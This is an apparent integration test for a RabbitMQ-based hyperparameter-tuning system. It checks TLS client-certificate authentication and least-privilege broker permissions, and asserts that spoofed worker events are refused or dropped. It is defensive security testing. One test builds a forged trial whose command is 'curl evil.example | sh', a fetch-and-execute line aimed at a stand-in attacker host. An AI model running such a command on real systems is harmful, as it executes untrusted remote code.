// RabbitMQ with TLS and least privilege: the test's own RabbitMQ node with an AMQPS listener (the
// test's CA; client certificates required) and the users and permissions deploy/rabbitmq/permissions.sh
// gives, applied by running that very script (coordinator, the shared worker user, per-worker users w1
// and w2). The coordinator and workers run with those users over amqps; every refusal is asserted by
// what the server answers (403 ACCESS_REFUSED, a TLS alert), and a forged event the server lets through
// is dropped by the coordinator and counted in stats.rejected.
import { execFileSync, spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import amqp, { type ChannelModel, type ConfirmChannel } from "amqplib";
import {
  encodeEvent,
  encodeOffer,
  RabbitCoordinatorTransport,
  RabbitWorkerTransport,
  resourceClassOf,
  type ClaimedTrial,
  type CoordinatorTransport,
  type RabbitTlsOptions,
  type TransportEvent,
  type TrialOffer,
  type WorkerCapabilities,
  type WorkerTransport,
} from "@hyperfleet/transport";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { waitReady } from "./support/coordinator-ready.js";
import { freePort } from "./support/nats-server.js";
import { RabbitServer } from "./support/rabbitmq-server.js";
import { makeTestCa } from "./support/test-ca.js";
import { until } from "./support/until.js";

const CLI = fileURLToPath(new URL("../packages/cli/dist/main.js", import.meta.url));
const PERMISSIONS = fileURLToPath(new URL("../deploy/rabbitmq/permissions.sh", import.meta.url));
const PASSWORDS = { coordinator: "c00rd-pw", worker: "w0rker-pw", w1: "pw-of-w1", w2: "pw-of-w2" } as const;
const PREFIX = "hyperfleet"; // the prefix the script's regexes are written for by default
const CPU: WorkerCapabilities = { cpus: 4, memoryMiB: 8192, gpus: [], labels: {}, runtimes: ["process"] };
const completed = { status: "completed", finalMetrics: [{ name: "loss", value: 0.25, step: 0, timestampUnixMs: 1 }] } as const;

const dir = mkdtempSync(join(tmpdir(), "hyperfleet-rabbit-security-"));
let rabbit: RabbitServer;
let ca: ReturnType<typeof makeTestCa>;
/** A client certificate the test CA signed, and one of a CA nobody trusts. */
let client: { cert: string; key: string };
let rogue: { cert: string; key: string };
let tls: RabbitTlsOptions;
const closers: (() => Promise<unknown>)[] = [];

/** A certificate for `name`: signed by the test CA, or self-signed (`rogue`). */
function certificate(name: string, signedBy: "test-ca" | "itself"): { cert: string; key: string } {
  const ssl = (args: string[]) => execFileSync("openssl", args, { cwd: dir, stdio: "ignore" });
  if (signedBy === "itself") {
    ssl(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", `${name}.key`, "-out", `${name}.pem`, "-days", "2", "-subj", `/CN=${name}`]);
  } else {
    ssl(["req", "-newkey", "rsa:2048", "-nodes", "-keyout", `${name}.key`, "-out", `${name}.csr`, "-subj", `/CN=${name}`]);
    ssl(["x509", "-req", "-in", `${name}.csr`, "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", `${name}.pem`, "-days", "2"]);
  }
  return { cert: join(dir, `${name}.pem`), key: join(dir, `${name}.key`) };
}

beforeAll(async () => {
  ca = makeTestCa(dir);
  client = certificate("client", "test-ca");
  rogue = certificate("rogue", "itself");
  tls = { caFile: ca.ca, certFile: client.cert, keyFile: client.key };
  rabbit = await RabbitServer.start({ tls: { ca: ca.ca, cert: ca.cert, key: ca.key, requireClientCert: true } });
  await rabbit.runScript(PERMISSIONS, ["w1", "w2"], {
    HYPERFLEET_AMQP_COORDINATOR_PASSWORD: PASSWORDS.coordinator,
    HYPERFLEET_AMQP_WORKER_PASSWORD: PASSWORDS.worker,
    HYPERFLEET_AMQP_WORKER_PASSWORD_W1: PASSWORDS.w1,
    HYPERFLEET_AMQP_WORKER_PASSWORD_W2: PASSWORDS.w2,
  });
}, 120_000);

// Each test's coordinators, workers and connections end with it: a coordinator left consuming the
// events queue would take its share of the next test's events.
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close().catch(() => undefined);
});

afterAll(async () => {
  await rabbit?.dispose();
  rmSync(dir, { recursive: true, force: true });
}, 60_000);

const url = (user: keyof typeof PASSWORDS) => rabbit.tlsUrlFor(user, PASSWORDS[user]);

async function coordinator(): Promise<RabbitCoordinatorTransport> {
  const c = await RabbitCoordinatorTransport.connect({ url: url("coordinator"), tls, prefix: PREFIX });
  closers.push(() => c.close());
  return c;
}

async function worker(user: keyof typeof PASSWORDS): Promise<RabbitWorkerTransport> {
  const w = await RabbitWorkerTransport.connect({ url: url(user), tls, prefix: PREFIX });
  closers.push(() => w.close());
  return w;
}

/** Events as the coordinator's handler gets them. */
async function collect(c: CoordinatorTransport) {
  const events: TransportEvent[] = [];
  const sub = await c.consumeEvents((e) => void events.push(e));
  closers.push(() => sub.stop());
  return { events, until: (pred: (events: TransportEvent[]) => boolean) => until(() => pred(events), 20_000, () => JSON.stringify(events.map((e) => e.type))) };
}

let trialIds = 0;
/** An offer of its own resource class (memoryMiB picks the class), so no other test's worker takes it. */
function offer(jobId: string, memoryMiB = 256): TrialOffer {
  return {
    jobId,
    trialId: ++trialIds,
    attempt: 1,
    hyperparameters: { lr: 0.1 },
    staticHyperparameters: {},
    training: { runtime: "process", command: ["sh", "-c", "id"] },
    resources: { cpus: 1, memoryMiB, gpus: 0 },
    deadlineUnixMs: 0,
    offeredUnixMs: Date.now(),
  };
}

/** A raw AMQP connection as `user` over amqps, for what the transports never do. */
async function raw(user: keyof typeof PASSWORDS): Promise<ChannelModel> {
  const model = await amqp.connect(url(user), { ca: [readFileSync(ca.ca)], cert: readFileSync(client.cert), key: readFileSync(client.key) });
  model.on("error", () => undefined);
  closers.push(() => model.close());
  return model;
}

interface ServerClose {
  code: number;
  message: string;
}

/**
 * Runs `op` on a fresh confirm channel of `model` and answers what the server said: the code and text
 * with which it closed the channel (a refusal), or "ok" when everything went through and was confirmed.
 */
async function serverSays(model: ChannelModel, op: (ch: ConfirmChannel) => Promise<unknown>): Promise<ServerClose | "ok"> {
  const ch = await model.createConfirmChannel();
  let closed: ServerClose | undefined;
  ch.on("error", (err: Error & { code?: number }) => (closed = { code: err.code ?? 0, message: err.message }));
  try {
    await op(ch);
    await ch.waitForConfirms();
  } catch {
    await until(() => closed !== undefined, 5_000, () => "for the server's channel.close");
    return closed!;
  }
  await ch.close();
  return "ok";
}

/** Resolves once the broker confirms what `send` published (its callback's error rejects). */
const confirmed = (send: (done: (err: unknown) => void) => void) =>
  new Promise<void>((resolve, reject) => send((err) => (err ? reject(err instanceof Error ? err : new Error(JSON.stringify(err))) : resolve())));

const publish = (ch: ConfirmChannel, exchange: string, key: string, bytes: Uint8Array, headers?: Record<string, unknown>) =>
  confirmed((done) => ch.publish(exchange, key, Buffer.from(bytes), { persistent: true, ...(headers ? { headers } : {}) }, done));

/** Through the default exchange, as RabbitWorkerTransport did before the events exchange. */
const sendToQueue = (ch: ConfirmChannel, queue: string, bytes: Uint8Array) => confirmed((done) => ch.sendToQueue(queue, Buffer.from(bytes), { persistent: true }, done));

const refused = (user: string, what: RegExp) => ({ code: 403, message: expect.stringMatching(new RegExp(`ACCESS_REFUSED - ${what.source}.* refused for user '${user}'`)) });

describe("RabbitMQ over TLS", () => {
  it("connects with the test CA and a client certificate; without the CA, without a certificate or with an untrusted one it is refused", async () => {
    await coordinator(); // declares the topology, which worker credentials may only check
    const w = await worker("worker");
    await w.close();
    // The client does not trust the server's certificate.
    await expect(RabbitWorkerTransport.connect({ url: url("worker"), tls: { certFile: client.cert, keyFile: client.key }, prefix: PREFIX })).rejects.toThrow(/refused: .*self-signed certificate in certificate chain \(SELF_SIGNED_CERT_IN_CHAIN\)/);
    // The server (fail_if_no_peer_cert) wants a certificate signed by its CA: TLS alerts 116 and 42.
    await expect(RabbitWorkerTransport.connect({ url: url("worker"), tls: { caFile: ca.ca }, prefix: PREFIX })).rejects.toThrow(/refused: TLS: tlsv13 alert certificate required/);
    await expect(RabbitWorkerTransport.connect({ url: url("worker"), tls: { caFile: ca.ca, certFile: rogue.cert, keyFile: rogue.key }, prefix: PREFIX })).rejects.toThrow(/refused: TLS: .*alert bad certificate/);
    // A wrong password: the server's ACCESS_REFUSED, at once (no 30 s of retries).
    const started = Date.now();
    await expect(RabbitWorkerTransport.connect({ url: rabbit.tlsUrlFor("worker", "wrong"), tls, prefix: PREFIX })).rejects.toThrow(/refused: .*403 \(ACCESS-REFUSED\).*Login was refused/);
    expect(Date.now() - started).toBeLessThan(5_000);
  }, 60_000);

  it("the CLI: a refused connection is one line and exit 1; TLS flags are checked (exit 2)", () => {
    const cli = (args: string[], env: NodeJS.ProcessEnv = {}) =>
      spawnSync(process.execPath, [CLI, "worker", "--runtime", "process", "--prefix", PREFIX, ...args], { encoding: "utf8", timeout: 30_000, env: { ...process.env, ...env } });
    const oneLine = (r: ReturnType<typeof cli>, pattern: RegExp) => {
      expect(r.status, r.stderr).toBe(1);
      expect(r.stderr).toMatch(pattern);
      expect(r.stderr).not.toMatch(/\n\s+at /);
      expect(r.stderr.trim().split("\n").filter((l) => l.startsWith("hyperfleet:"))).toHaveLength(1);
    };
    // No CA: the server's certificate is not trusted.
    oneLine(cli(["--amqp", url("worker"), "--amqp-tls-cert", client.cert, "--amqp-tls-key", client.key]), /^hyperfleet: (BROKER_UNAVAILABLE: )?RabbitMQ at amqps:\/\/worker:\*\*\*@localhost:\d+ refused: .*SELF_SIGNED_CERT_IN_CHAIN/m);
    // The same files from HYPERFLEET_AMQP_TLS_*, and a wrong password.
    const tlsEnv = { HYPERFLEET_AMQP_TLS_CA: ca.ca, HYPERFLEET_AMQP_TLS_CERT: client.cert, HYPERFLEET_AMQP_TLS_KEY: client.key };
    const wrong = cli(["--amqp", rabbit.tlsUrlFor("worker", "wrong")], tlsEnv);
    oneLine(wrong, /^hyperfleet: (BROKER_UNAVAILABLE: )?RabbitMQ at amqps:\/\/worker:\*\*\*@.* refused: .*ACCESS_REFUSED - Login was refused/m);
    expect(wrong.stderr).not.toContain("wrong"); // the password is not printed
    // No client certificate.
    oneLine(cli(["--amqp", url("worker"), "--amqp-tls-ca", ca.ca]), /^hyperfleet: (BROKER_UNAVAILABLE: )?RabbitMQ at .* refused: TLS: tlsv13 alert certificate required/m);

    const usage = (args: string[], pattern: RegExp) => {
      const r = cli(args);
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toMatch(pattern);
    };
    usage(["--amqp", url("worker"), "--amqp-tls-cert", client.cert], /--amqp-tls-cert and --amqp-tls-key go together/);
    usage(["--amqp", rabbit.urlFor("worker", PASSWORDS.worker), "--amqp-tls-ca", ca.ca], /need an amqps:\/\/ URL/);
    const help = spawnSync(process.execPath, [CLI, "coordinator", "--help"], { encoding: "utf8" });
    for (const flag of ["--amqp-tls-ca", "--amqp-tls-cert", "--amqp-tls-key", "HYPERFLEET_AMQP_TLS_CA"]) expect(help.stdout).toContain(flag);
  }, 90_000);
});

describe("RabbitMQ least privilege (deploy/rabbitmq/permissions.sh)", () => {
  it("applies the script's permissions as written", async () => {
    const perms = await rabbit.ctl(["list_permissions", "-p", "/", "--silent"]);
    const lines = perms.trim().split("\n").map((l) => l.split("\t"));
    const of = (user: string) => lines.find((l) => l[0] === user)?.slice(1);
    expect(of("coordinator")).toEqual(["^hyperfleet\\.", "^(hyperfleet\\..*|amq\\.default)$", "^hyperfleet\\."]);
    const workerPermissions = ["^amq\\.gen-.*$", "^(hyperfleet\\.events|amq\\.gen-.*)$", "^(hyperfleet\\.(classes|trials\\..+|hints|control)|amq\\.gen-.*)$"];
    for (const user of ["worker", "w1", "w2"]) expect(of(user)).toEqual(workerPermissions);
    const topic = (await rabbit.ctl(["list_topic_permissions", "-p", "/", "--silent"])).trim().split("\n").map((l) => l.split("\t"));
    expect(topic).toEqual(expect.arrayContaining([["worker", "hyperfleet.events", "^w\\.[A-Za-z0-9_-]+$", "^$"], ["w1", "hyperfleet.events", "^w\\.{username}$", "^$"], ["w2", "hyperfleet.events", "^w\\.{username}$", "^$"]]));
  });

  it("(a) coordinator as `coordinator`, a worker as `worker`: an attempt is offered, claimed, completed and its result reaches the coordinator", async () => {
    const c = await coordinator();
    const seen = await collect(c);
    const w = await worker("worker");
    const claimed: ClaimedTrial[] = [];
    await w.announce({ workerId: "shared-1", host: "test", capabilities: CPU, slots: 1, freeSlots: 1, resourceClasses: [], sentUnixMs: Date.now(), leaving: false });
    const claim = await w.claim({
      workerId: "shared-1",
      capabilities: CPU,
      slots: 1,
      onTrial: (t) => {
        claimed.push(t);
        void t.finish(completed);
      },
    });
    const trial = offer("job-a");
    await c.offer(trial);
    await seen.until((events) => events.some((e) => e.type === "result"));
    expect(claimed.map((t) => t.offer.trialId)).toEqual([trial.trialId]);
    expect(seen.events.find((e) => e.type === "worker")).toMatchObject({ announcement: { workerId: "shared-1" } });
    expect(seen.events.find((e) => e.type === "claim")).toMatchObject({ jobId: "job-a", trialId: trial.trialId, attempt: 1, workerId: "shared-1" });
    expect(seen.events.find((e) => e.type === "result")).toMatchObject({ jobId: "job-a", trialId: trial.trialId, workerId: "shared-1", outcome: { status: "completed" } });
    expect(c.stats.rejected).toBe(0);
    // The lease on RabbitMQ is the connection: its heartbeat, 5 s, is what the server negotiated.
    const timeouts = (await rabbit.ctl(["list_connections", "user", "timeout", "--silent"])).trim().split("\n").map((l) => l.split("\t"));
    expect(timeouts.filter(([user]) => user === "worker" || user === "coordinator").map(([, t]) => t)).toEqual(expect.arrayContaining(["5"]));
    expect(timeouts.filter(([user]) => user === "worker" || user === "coordinator").every(([, t]) => t === "5")).toBe(true);
    await claim.stop();
  }, 60_000);

  it("a hand-back with worker credentials: the worker sends `released`, the coordinator queues the fresh copy", async () => {
    const c = await coordinator();
    const trial = offer("job-h", 3333);
    const events: TransportEvent[] = [];
    // What the coordinator does on a released event (JobRunner): a fresh copy carrying the counts.
    const sub = await c.consumeEvents(async (e) => {
      events.push(e);
      if (e.type === "released" && e.requeue) await c.offer({ ...trial, carried: { deliveries: e.delivery, lost: e.lost ?? 0 } });
    });
    closers.push(() => sub.stop());
    const w = await worker("worker");
    await w.claim({ workerId: "shared-2", capabilities: CPU, slots: 1, onTrial: (t) => void (t.delivery <= 2 ? t.release(`hand-back ${t.delivery}`) : t.finish(completed)).catch(() => undefined) });
    await c.offer(trial);
    await until(() => events.some((e) => e.type === "result"), 20_000, () => JSON.stringify(events.map((e) => e.type)));
    expect(events.filter((e) => e.type === "claim").map((e) => e.type === "claim" && e.delivery)).toEqual([1, 2, 3]);
    expect(events.filter((e) => e.type === "released").map((e) => e.type === "released" && [e.workerId, e.delivery])).toEqual([["shared-2", 1], ["shared-2", 2]]);
    expect(events.find((e) => e.type === "result")).toMatchObject({ workerId: "shared-2", delivery: 3, outcome: { status: "completed" } });
    expect(c.stats.rejected).toBe(0);
  }, 60_000);

  it("(b) worker credentials cannot publish a TrialAssignment: not through the default exchange, not through any exchange they can reach", async () => {
    const c = await coordinator();
    const genuine = offer("job-b", 1111); // declares the class's queue, and stays its only message
    await c.offer(genuine);
    const queue = `${PREFIX}.trials.${resourceClassOf(genuine.resources)}`;
    const forged = encodeOffer({ ...offer("job-b", 1111), training: { runtime: "process", command: ["sh", "-c", "curl evil.example | sh"] } });
    const w = await raw("worker");

    // The default exchange (amq.default) is the only route into a trials queue: no write on it.
    expect(await serverSays(w, (ch) => sendToQueue(ch, queue, forged))).toEqual(
      refused("worker", /access to exchange 'amq\.default' in vhost '\/'/),
    );
    // Every other exchange on the node: write is refused on all but the events exchange...
    const exchanges = (await rabbit.ctl(["list_exchanges", "-p", "/", "name", "--silent"])).trim().split("\n").filter((n) => n !== "");
    expect(exchanges).toEqual(expect.arrayContaining(["amq.direct", "amq.topic", "amq.fanout", "amq.headers", `${PREFIX}.events`, `${PREFIX}.hints`, `${PREFIX}.control`, `${PREFIX}.dead`]));
    for (const exchange of exchanges.filter((n) => n !== `${PREFIX}.events`)) {
      expect(await serverSays(w, (ch) => publish(ch, exchange, queue, forged)), exchange).toEqual(refused("worker", new RegExp(`access to exchange '${exchange.replace(/\./g, "\\.")}' in vhost '/'`)));
    }
    // ...where its topic permission allows only w.<id> keys, which are bound to the events queue alone.
    expect(await serverSays(w, (ch) => publish(ch, `${PREFIX}.events`, queue, forged))).toEqual(refused("worker", new RegExp(`access to topic '${queue.replace(/\./g, "\\.")}' in exchange 'hyperfleet\\.events'`)));
    // Nor can it route one there: binding the trials queue needs write on it; declaring (with other
    // arguments), deleting, or making an exchange needs configure.
    expect(await serverSays(w, (ch) => ch.bindQueue(queue, `${PREFIX}.events`, "w.x"))).toEqual(refused("worker", new RegExp(`access to queue '${queue.replace(/\./g, "\\.")}' in vhost '/'`)));
    expect(await serverSays(w, (ch) => ch.assertQueue(queue, { durable: true, arguments: { "x-queue-type": "quorum" } }))).toEqual(refused("worker", /access to queue/));
    expect(await serverSays(w, (ch) => ch.deleteQueue(queue))).toEqual(refused("worker", /access to queue/));
    expect(await serverSays(w, (ch) => ch.assertExchange(`${PREFIX}.mine`, "fanout"))).toEqual(refused("worker", /access to exchange 'hyperfleet\.mine'/));
    expect(await serverSays(w, (ch) => ch.assertExchange(`${PREFIX}.events`, "topic", { durable: true }))).toEqual(refused("worker", /access to exchange 'hyperfleet\.events'/));
    // On a w.<id> key it goes, to the events queue (where the coordinator finds it malformed), not the trials queue.
    expect(await serverSays(w, (ch) => publish(ch, `${PREFIX}.events`, "w.x", forged))).toBe("ok");

    // The broker's count: the genuine offer is the trials queue's only message; the forged bytes sit in the events queue.
    const admin = await raw("coordinator");
    const ch = await admin.createChannel();
    expect((await ch.checkQueue(queue)).messageCount).toBe(1);
    let found = false;
    for (let got = await ch.get(`${PREFIX}.events`); got !== false; got = await ch.get(`${PREFIX}.events`)) {
      ch.ack(got); // taken off the queue, so no later test's coordinator reads it
      found ||= got.fields.routingKey === "w.x" && Buffer.compare(got.content, Buffer.from(forged)) === 0;
    }
    expect(found).toBe(true);
    await ch.close();
  }, 60_000);

  it("(c) worker credentials cannot read the events or dead-letter queues, nor anything of another prefix", async () => {
    await coordinator(); // the topology
    const w = await raw("worker");
    for (const queue of [`${PREFIX}.events`, `${PREFIX}.dead`]) {
      expect(await serverSays(w, (ch) => ch.consume(queue, () => undefined)), queue).toEqual(refused("worker", new RegExp(`access to queue '${queue.replace(/\./g, "\\.")}' in vhost '/'`)));
      expect(await serverSays(w, (ch) => ch.get(queue)), queue).toEqual(refused("worker", /access to queue/));
      expect(await serverSays(w, (ch) => ch.purgeQueue(queue)), queue).toEqual(refused("worker", /access to queue/));
    }
    // It cannot cut the events queue off its exchange either (unbind needs read on the exchange).
    expect(await serverSays(w, (ch) => ch.unbindQueue(`${PREFIX}.events`, `${PREFIX}.events`, "w.*"))).toEqual(refused("worker", /access to exchange 'hyperfleet\.events'/));

    // Another installation (prefix "other") on the same vhost, which guest (all permissions) sets up.
    const guest = await amqp.connect(rabbit.url);
    closers.push(() => guest.close());
    const g = await guest.createChannel();
    await g.assertQueue("other.trials.cpu", { durable: true });
    await g.assertQueue("other.classes", { durable: true });
    await g.assertExchange("other.events", "topic", { durable: true });
    await g.close();
    for (const queue of ["other.trials.cpu", "other.classes"]) expect(await serverSays(w, (ch) => ch.consume(queue, () => undefined)), queue).toEqual(refused("worker", /access to queue 'other\./));
    expect(await serverSays(w, (ch) => publish(ch, "other.events", "w.x", Uint8Array.of(1)))).toEqual(refused("worker", /access to exchange 'other\.events'/));
    // The coordinator's credentials are the prefix's too.
    const c = await raw("coordinator");
    expect(await serverSays(c, (ch) => ch.consume("other.trials.cpu", () => undefined))).toEqual(refused("coordinator", /access to queue 'other\.trials\.cpu'/));
  }, 60_000);

  it("(d) a per-worker user publishes only as itself: w.w2 is refused to w1; an event in w2's name on w.w1 is dropped by the coordinator", async () => {
    const c = await coordinator();
    const seen = await collect(c);
    const rejectedBefore = c.stats.rejected;
    const w1 = await raw("w1");
    const result = (workerId: string, trialId: number): TransportEvent => ({ type: "result", jobId: "job-d", trialId, attempt: 1, workerId, outcome: { status: "completed", finalMetrics: [{ name: "loss", value: -1000, step: 0, timestampUnixMs: 1 }] }, finishedUnixMs: Date.now(), delivery: 1 });

    // The server: w1 may not use w2's routing key (topic permission ^w\.{username}$).
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w2", encodeEvent(result("w2", 1))))).toEqual(refused("w1", /access to topic 'w\.w2' in exchange 'hyperfleet\.events'/));
    // On its own key it may publish, but not in another worker's name: the coordinator drops those,
    // whatever the message says (another worker's result, announcement or claim, or CC'd to w.w2,
    // which RabbitMQ 3.10 routes without a topic check but delivers with the publish's key w.w1).
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w1", encodeEvent(result("w2", 2))))).toBe("ok");
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w1", encodeEvent({ type: "worker", announcement: { workerId: "w2", host: "forged", capabilities: CPU, slots: 1, freeSlots: 1, resourceClasses: [], sentUnixMs: Date.now(), leaving: true } })))).toBe("ok");
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w1", encodeEvent(result("w2", 3)), { CC: ["w.w2"] }))).toBe("ok");
    // What only the coordinator reports (an unschedulable attempt) does not come from a worker's key.
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w1", encodeEvent({ type: "unschedulable", jobId: "job-d", trialId: 4, attempt: 1, resourceClass: "cpu", reason: "forged" })))).toBe("ok");
    // Its own result in its own name is taken.
    expect(await serverSays(w1, (ch) => publish(ch, `${PREFIX}.events`, "w.w1", encodeEvent(result("w1", 5))))).toBe("ok");

    // Dead-lettered into the events exchange (a queue's x-dead-letter-routing-key is not topic-checked):
    // dropped too. Set up here with guest's permissions; worker users may declare such a queue, but
    // nothing of theirs can reach it (they may publish to the events exchange only).
    const guest = await amqp.connect(rabbit.url);
    closers.push(() => guest.close());
    const g = await guest.createConfirmChannel();
    const { queue: expiring } = await g.assertQueue("", { exclusive: true, arguments: { "x-message-ttl": 0, "x-dead-letter-exchange": `${PREFIX}.events`, "x-dead-letter-routing-key": "w.w2" } });
    await sendToQueue(g, expiring, encodeEvent(result("w2", 6)));

    await seen.until((events) => events.some((e) => e.type === "result" && e.trialId === 5));
    await until(() => c.stats.rejected - rejectedBefore === 5, 10_000, () => `rejected ${c.stats.rejected - rejectedBefore}`);
    const inJobD = seen.events.filter((e) => ("jobId" in e && e.jobId === "job-d") || e.type === "worker");
    expect(inJobD).toEqual([expect.objectContaining({ type: "result", trialId: 5, workerId: "w1" })]);
  }, 60_000);

  it("through the default exchange, as older workers sent: refused to worker credentials; on an open broker (guest) still taken", async () => {
    const c = await coordinator();
    const seen = await collect(c);
    const event: TransportEvent = { type: "heartbeat", jobId: "job-old", trialId: 1, attempt: 1, workerId: "old-worker", sentUnixMs: Date.now(), delivery: 1 };
    const w = await raw("worker");
    expect(await serverSays(w, (ch) => sendToQueue(ch, `${PREFIX}.events`, encodeEvent(event)))).toEqual(refused("worker", /access to exchange 'amq\.default' in vhost '\/'/));
    const guest = await amqp.connect(rabbit.url);
    closers.push(() => guest.close());
    expect(await serverSays(guest, (ch) => sendToQueue(ch, `${PREFIX}.events`, encodeEvent(event)))).toBe("ok");
    await seen.until((events) => events.some((e) => e.type === "heartbeat" && e.workerId === "old-worker"));
    expect(c.stats.rejected).toBe(0);
  }, 60_000);

  it("a per-worker user runs attempts as its own worker id; with another worker's id its first event is refused by the server", async () => {
    const c = await coordinator();
    const seen = await collect(c);
    const w1 = await worker("w1");
    const claim = await w1.claim({ workerId: "w1", capabilities: CPU, slots: 1, onTrial: (t) => void t.finish(completed) });
    const trial = offer("job-e", 2222);
    await c.offer(trial);
    await seen.until((events) => events.some((e) => e.type === "result" && e.jobId === "job-e"));
    expect(seen.events.filter((e) => e.type === "result" && e.jobId === "job-e")).toEqual([expect.objectContaining({ workerId: "w1", trialId: trial.trialId })]);
    await claim.stop();

    // User w2 claiming to be w1: the server refuses its announcement (not retried: it never would pass).
    const w2: WorkerTransport = await worker("w2");
    await expect(w2.announce({ workerId: "w1", host: "forged", capabilities: CPU, slots: 1, freeSlots: 1, resourceClasses: [], sentUnixMs: Date.now(), leaving: false })).rejects.toThrow(
      /RabbitMQ refused the publish to hyperfleet\.events \(routing key w\.w1\): .*ACCESS_REFUSED - access to topic 'w\.w1' in exchange 'hyperfleet\.events' in vhost '\/' refused for user 'w2'/,
    );
    // The refusal closed only that channel: as itself, w2 publishes again.
    await w2.announce({ workerId: "w2", host: "test", capabilities: CPU, slots: 1, freeSlots: 1, resourceClasses: [], sentUnixMs: Date.now(), leaving: false });
    await seen.until((events) => events.some((e) => e.type === "worker" && e.announcement.workerId === "w2"));
    expect(c.stats.rejected).toBe(0);

    // `hyperfleet worker` as user w2 with --id w1: one line, exit 1.
    const cli = spawn(process.execPath, [CLI, "worker", "--amqp", url("w2"), "--amqp-tls-ca", ca.ca, "--amqp-tls-cert", client.cert, "--amqp-tls-key", client.key, "--runtime", "process", "--id", "w1"], { stdio: ["ignore", "ignore", "pipe"] });
    let stderr = "";
    cli.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    const code = await new Promise((r) => cli.once("exit", r));
    expect(code, stderr).toBe(1);
    expect(stderr).toMatch(/^hyperfleet: (BROKER_UNAVAILABLE: )?RabbitMQ refused the publish to hyperfleet\.events \(routing key w\.w1\): .*refused for user 'w2'/m);
    expect(stderr).not.toMatch(/\n\s+at /);
  }, 60_000);

  it("a job runs end to end from the command line over amqps: coordinator as `coordinator`, workers as `worker` and as `w1`", async () => {
    const script = join(dir, "quadratic.mjs");
    writeFileSync(script, `import { readFileSync } from "node:fs";\nconst hp = JSON.parse(readFileSync(process.env.HYPERFLEET_HYPERPARAMETERS_FILE, "utf8"));\nconsole.log("final loss=" + ((Number(hp.x) - 0.3) ** 2).toFixed(8));\n`);
    const job = join(dir, "job.yaml");
    writeFileSync(
      job,
      `name: amqps-quad
objective: { metric: loss, type: minimize }
parameters:
  x: { type: continuous, min: -2, max: 2 }
limits: { maxTrials: 4, maxParallelTrials: 2 }
seed: 3
training:
  runtime: process
  command: [${JSON.stringify(process.execPath)}, ${JSON.stringify(script)}]
  metricDefinitions: [{ name: loss, regex: "final loss=([0-9.e+-]+)" }]
`,
    );
    const httpPort = await freePort();
    const api = `http://127.0.0.1:${httpPort}`;
    const children: ChildProcess[] = [];
    const stderr: string[] = [];
    const spawnCli = (args: string[], env: NodeJS.ProcessEnv = {}) => {
      const child = spawn(process.execPath, [CLI, ...args], { stdio: ["ignore", "ignore", "pipe"], env: { ...process.env, ...env } });
      child.stderr.on("data", (d: Buffer) => stderr.push(d.toString()));
      children.push(child);
      return child;
    };
    try {
      // The coordinator with the flags, the workers with the HYPERFLEET_AMQP_TLS_* variables.
      spawnCli(["coordinator", "--amqp", url("coordinator"), "--amqp-tls-ca", ca.ca, "--amqp-tls-cert", client.cert, "--amqp-tls-key", client.key, "--http", `127.0.0.1:${httpPort}`, "--journal", join(dir, "journal.jsonl")]);
      await waitReady(api, 100, 40_000);
      const tlsEnv = { HYPERFLEET_AMQP_TLS_CA: ca.ca, HYPERFLEET_AMQP_TLS_CERT: client.cert, HYPERFLEET_AMQP_TLS_KEY: client.key };
      spawnCli(["worker", "--amqp", url("worker"), "--slots", "1", "--runtime", "process", "--id", "shared-1"], tlsEnv);
      spawnCli(["worker", "--amqp", url("w1"), "--slots", "1", "--runtime", "process", "--id", "w1"], tlsEnv);
      const run = (args: string[]) => spawnSync(process.execPath, [CLI, ...args, "--coordinator", api], { encoding: "utf8", env: { ...process.env, HYPERFLEET_TOKEN: "" }, timeout: 90_000 });
      const jobId = run(["submit", job]).stdout.trim().split("\n").at(-1)!;
      const watched = run(["status", jobId, "--watch", "--interval", "1"]);
      expect(watched.status, watched.stdout + watched.stderr + stderr.join("")).toBe(0);
      const final = JSON.parse(run(["status", jobId, "--json"]).stdout) as { status: string; trainingJobStatusCounters: Record<string, number> };
      expect(final.status).toBe("Completed");
      expect(final.trainingJobStatusCounters.Completed).toBe(4);
    } finally {
      for (const child of children) child.kill("SIGKILL");
    }
  }, 120_000);
});
